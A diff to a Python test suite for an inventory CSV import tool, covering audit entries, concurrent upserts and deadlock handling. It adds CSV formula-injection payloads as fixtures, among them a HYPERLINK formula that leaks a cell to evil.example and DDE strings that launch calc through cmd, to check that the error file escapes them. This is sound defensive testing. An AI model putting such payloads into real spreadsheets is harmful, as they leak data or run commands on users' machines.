@@ -174,7 +174,9 @@ def test_one_audit_entry_per_batch_with_its_counts(inv):
     assert entry["batch_id"] == report.batch_id and entry["actor"] == "admin@example.com"
     assert json.loads(entry["detail"]) == {"file": "batch.csv", "mode": "append", "atomic": False, "rows": 2,
                                            "inserted": 1, "updated": 0, "unchanged": 0, "skipped": 1}
-    assert audit(inv, "add") == []  # inserted items are covered by the batch entry, not one row each
+    # The inserted item has its own entry too (tests/integration/test_audit_trail.py checks its contents).
+    (add,) = audit(inv, "add")
+    assert add["batch_id"] == report.batch_id and add["item_id"] == int(inv.query().rows.id[0])
 
 
 def big_file(rows: int, tail: str = "") -> str:
@@ -220,9 +222,9 @@ def test_the_error_file_can_be_fixed_and_uploaded_again(inv):
                             "E;F;3\n")
     rejected = list(csv.reader(io.StringIO(report.error_csv()), delimiter=";"))
     assert rejected == [["Item Name", "Category", "Quantity", "Unit Price", "Colour", "error"],
-                        ["C", "D", "-2", "1", "blue", "quantity must be 0 or greater"],
+                        ["C", "D", "'-2", "1", "blue", "quantity must be 0 or greater"],  # escaped like an export
                         ["E", "F", "3", "", "", "unit_price is required"]]
-    fixed = report.error_csv().replace(";-2;", ";2;").replace("E;F;3;;", "E;F;3;4;")
+    fixed = report.error_csv().replace(";'-2;", ";2;").replace("E;F;3;;", "E;F;3;4;")
     again = inv.import_csv(fixed)
     assert (again.inserted, again.skipped) == (2, 0)
     assert again.warnings == ["Unknown columns ignored: Colour"]  # its own ``error`` column is not "unknown"
@@ -239,3 +241,130 @@ def test_table_and_schema_names_from_settings_are_quoted(db_url):
         assert inv.t.items.name == "Items2024" and items(inv)[0]["quantity"] == 2
     finally:
         inv.close()
+
+
+# -- the error file is formula-escaped like an export, and reads back as the original rows --------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3", "'=1+1"]
+
+
+def test_the_error_file_escapes_hostile_cells_and_reads_back_as_the_original(inv):
+    # Each row is rejected for its quantity, so every hostile cell lands in the error file.
+    lines = ["item_name,category,quantity,unit_price,description,sku"]
+    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",Tools,-1,1,"\t=cmd()",S-{i}' for i, n in enumerate(HOSTILE)]
+    report = inv.import_csv("\n".join(lines) + "\n", file_name="hostile.csv")
+    assert (report.inserted, report.skipped) == (0, len(HOSTILE))
+    rejected = list(csv.DictReader(io.StringIO(report.error_csv())))
+    # A cell starting with "'" is text to a spreadsheet already, and the import reads it as the original: kept.
+    assert [r["item_name"] for r in rejected] == ["'" + n if n[0] != "'" else n for n in HOSTILE]
+    assert {r["description"] for r in rejected} == {"'\t=cmd()"} and {r["quantity"] for r in rejected} == {"'-1"}
+    for row in rejected:  # no cell a spreadsheet would run
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    # Fixed and uploaded again, the rows import exactly as the original cells would have.
+    again = inv.import_csv(report.error_csv().replace(",'-1,", ",1,"))
+    assert (again.inserted, again.skipped) == (len(HOSTILE), 0)
+    stored = {row["sku"]: row for row in items(inv)}
+    assert [stored[f"S-{i}"]["item_name"] for i in range(len(HOSTILE))] == [
+        n if not n.startswith("'=") else n[1:] for n in HOSTILE]  # "'=1+1" in a file is export's escape of "=1+1"
+    assert {row["description"] for row in stored.values()} == {"=cmd()"}  # the original cell, trimmed
+
+
+# -- concurrent upsert imports on PostgreSQL --------------------------------------------------------------------------
+
+CONCURRENT_IMPORTS = 4
+
+
+def _upsert_file(n: int, existing: list[str], new: list[str]) -> tuple[str, dict[str, int]]:
+    """Import ``n``'s file: every sku (old and new) in its own shuffled order, with quantities of its own."""
+    import random
+
+    skus = existing + new
+    random.Random(n).shuffle(skus)
+    quantities = {sku: 1000 * (n + 1) + i for i, sku in enumerate(skus)}
+    lines = ["sku,item_name,category,quantity,unit_price"]
+    lines += [f"{sku},Part {sku},Parts,{quantities[sku]},1.00" for sku in skus]
+    return "\n".join(lines) + "\n", quantities
+
+
+@pytest.mark.postgres
+def test_concurrent_upsert_imports_of_overlapping_skus_all_succeed_consistently(pg_url, settings):
+    import threading
+
+    admin = ip.connect(pg_url, user="admin@example.com", role="admin", settings=settings)
+    existing = [f"OLD-{i:05d}" for i in range(3_000)]
+    new = [f"NEW-{i:05d}" for i in range(1_500)]  # inserted by whichever import comes first
+    seed = admin.import_csv("sku,item_name,category,quantity,unit_price\n"
+                            + "".join(f"{s},Part {s},Parts,1,1.00\n" for s in existing))
+    files = [_upsert_file(n, existing, new) for n in range(CONCURRENT_IMPORTS)]
+    barrier = threading.Barrier(CONCURRENT_IMPORTS)
+    results: dict[int, object] = {}
+
+    def run(n: int) -> None:
+        inv = ip.connect(pg_url, user=f"importer{n}@example.com", role="editor", settings=settings)
+        try:
+            barrier.wait()
+            results[n] = inv.import_csv(files[n][0], mode="upsert", file_name=f"part{n}.csv")
+        except Exception as exc:  # noqa: BLE001 - the test reports every failure below
+            results[n] = exc
+        finally:
+            inv.close()
+
+    threads = [threading.Thread(target=run, args=(n,)) for n in range(CONCURRENT_IMPORTS)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(timeout=300)
+    failures = {n: f"{type(r).__name__}: {r}" for n, r in results.items() if isinstance(r, Exception)}
+    assert not failures and len(results) == CONCURRENT_IMPORTS
+    reports = list(results.values())
+    assert all(r.skipped == 0 and r.rows == len(existing) + len(new) for r in reports)
+    assert sum(r.inserted for r in reports) == len(new)  # each new sku inserted once, then updated by the others
+
+    stored = {row["sku"]: row for row in items(admin)}
+    assert len(stored) == len(existing) + len(new)
+    # Imports took turns: every quantity is that of the import that committed last.
+    last = [n for n in range(CONCURRENT_IMPORTS) if all(stored[s]["quantity"] == q for s, q in files[n][1].items())]
+    assert len(last) == 1
+    # Each item's movements form one unbroken chain from its first quantity to the stored one.
+    start = {s: 1 for s in existing}
+    with admin.reading() as conn:
+        first_add = {r.item_id: json.loads(r.changes)["quantity"][1] for r in conn.execute(
+            sa.select(admin.t.audit).where(admin.t.audit.c.action == "add", admin.t.audit.c.batch_id != seed.batch_id))}
+    by_item: dict[int, list[dict]] = {}
+    for move in movements(admin):
+        by_item.setdefault(move["item_id"], []).append(move)
+    page = admin.query(sort_by="id", limit=10_000).rows
+    id_of = {sku: int(i) for sku, i in zip(page["sku"], page["id"], strict=True)}
+    assert set(first_add) == {id_of[s] for s in new}  # one add audit row per new item, from its inserting import
+    for sku, item_id in id_of.items():
+        quantity = start[sku] if sku in start else first_add[item_id]
+        for move in by_item.get(item_id, []):
+            assert move["quantity_after"] - move["delta"] == quantity, (sku, move)
+            quantity = move["quantity_after"]
+        assert quantity == stored[sku]["quantity"], sku
+    admin.close()
+
+
+class _Deadlock(Exception):
+    """What psycopg2 raises for a deadlock victim: SQLSTATE 40P01."""
+
+    pgcode = "40P01"
+
+
+def test_a_deadlock_victim_gets_one_clear_line_from_the_cli_not_a_traceback(db_url, tmp_path, monkeypatch, capsys):
+    # Imports into one table no longer deadlock each other (test above), but another writer still can: simulate it.
+    from inventory_panel import cli
+    from inventory_panel.importing.writing import Writer
+
+    def deadlocked(self, skus, *, full):
+        raise sa.exc.OperationalError("SELECT … FOR UPDATE", {}, _Deadlock("deadlock detected\nDETAIL: …"))
+
+    monkeypatch.setattr(Writer, "existing", deadlocked)
+    source = tmp_path / "items.csv"
+    source.write_text(f"{HEADER}\nA,B,1,1,,,,,S-1\n", encoding="utf-8")
+    code = cli.main(["--database-url", db_url, "--user", "admin@example.com", "import", str(source), "--mode",
+                     "upsert"])
+    err = capsys.readouterr().err
+    assert code == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1
+    assert "nothing was imported. Please import the file again." in err
